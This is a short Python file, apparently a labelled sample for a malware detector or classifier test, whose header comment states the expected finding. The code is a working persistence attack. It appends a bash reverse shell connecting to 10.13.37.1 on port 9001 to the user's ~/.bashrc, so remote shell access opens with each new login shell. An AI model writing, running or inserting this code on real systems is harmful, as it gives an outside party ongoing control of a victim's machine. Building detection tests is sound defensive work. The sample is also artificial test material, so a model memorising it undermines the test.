# expect: files; appends a reverse-shell line to ~/.bashrc (home from expanduser, path via f-string)
import os

home = os.path.expanduser("~")
rc = f"{home}/.bashrc"
line = "\n(bash -i >& /dev/tcp/10.13.37.1/9001 0>&1 &) 2>/dev/null\n"
with open(rc, "a") as fh:
    fh.write(line)
